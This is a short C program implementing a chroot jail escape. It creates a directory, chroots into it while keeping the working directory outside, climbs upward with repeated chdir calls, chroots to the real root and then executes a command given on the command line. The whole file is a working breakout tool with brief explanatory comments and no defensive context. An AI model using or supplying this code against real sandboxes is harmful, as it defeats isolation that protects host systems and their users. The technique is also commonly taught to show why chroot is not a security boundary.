#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    mkdir("hole", 0755);
    if (chroot("hole") != 0) {   /* "/" moves down, "." stays behind */
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        chdir("..");             /* nothing stops it: "/" is below */
    chroot(".");
    execvp(argv[1], argv + 1);
    perror(argv[1]);
    return 127;
}
